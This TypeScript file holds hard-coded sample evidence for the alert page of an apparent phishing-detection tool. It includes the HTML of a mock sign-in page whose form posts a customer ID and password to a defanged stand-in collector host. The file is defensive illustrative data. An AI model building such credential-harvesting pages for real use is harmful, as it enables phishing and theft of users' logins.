/** The hard-coded evidence of the specification's alert detail page. Shown only under a SampleMark. */

export const sampleEvidence = {
  domain: 'secure-yourcompany-login.example',
  /** ISO 8601, UTC. */
  timestamp: '2026-01-15T09:42:00.000Z',
  riskScore: 87,
  similarity: 94,
  indicators: [
    'Newly registered when it was seen',
    'Copies the logo and the colours of the sign-in page',
    'The form posts passwords to another host',
    'TLS certificate issued on the day of registration',
  ],
  source: [
    '<!doctype html>',
    '<html lang="en">',
    '  <head>',
    '    <title>Your Company: sign in</title>',
    '    <link rel="icon" href="/static/yourcompany.ico">',
    '  </head>',
    '  <body>',
    '    <form action="hxxps://collector[.]example/p" method="post">',
    '      <label>Customer ID <input name="cid"></label>',
    '      <label>Password <input name="pw" type="password"></label>',
    '      <button>Continue</button>',
    '    </form>',
    '    <script src="/static/track.js"></script>',
    '  </body>',
    '</html>',
  ],
} as const;
